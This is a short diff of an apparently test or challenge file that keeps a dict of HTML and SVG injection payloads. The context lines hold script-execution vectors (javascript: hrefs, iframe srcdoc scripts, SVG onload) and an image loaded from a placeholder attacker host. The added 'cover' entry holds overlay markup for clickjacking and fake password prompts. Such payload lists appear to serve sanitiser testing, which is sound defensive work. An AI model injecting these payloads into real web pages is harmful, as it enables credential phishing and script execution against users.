@@ -41,6 +41,9 @@ ANSWERS = {
 <set attributeName=href to="javascript:{PWN}" />
 <foreignObject><iframe srcdoc="<script>parent.{PWN}</script>"></iframe></foreignObject>
 <image href="ATTACKER/svg.png" /><use href="data:image/svg+xml,<svg onload='{PWN}'/>#x" /></svg>""",
+    "cover": """<div style="position:fixed;inset:0;z-index:99999;background:#fff">Type your password</div>
+<div style="position:absolute;left:-900px;top:-900px;width:3000px;height:3000px;z-index:99999">over it</div>
+<form action="/import" method="post"><button style="font-size:40px">continue here</button></form>""",
     "code": f"""```html
 <script>{PWN}</script><img src=x onerror={PWN}>
 ```
